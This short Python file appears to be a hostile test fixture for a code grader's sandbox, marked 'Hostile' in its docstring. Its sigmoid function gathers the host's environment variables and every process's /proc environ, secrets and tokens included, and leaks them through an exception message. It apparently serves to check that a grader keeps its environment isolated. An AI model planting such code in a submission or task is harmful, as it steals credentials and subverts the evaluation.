"""Hostile: reads the grader's environment (secrets, tokens) through os.environ and /proc
(review: the caller's environment must stay outside)."""

import os


def _environment():
    seen = dict(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen[pid] = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
            except OSError:
                pass
    return seen


def sigmoid(z):
    raise NotImplementedError(f"nothing found: {_environment()}")


def sigmoid_grad(z):
    raise NotImplementedError("nothing found")
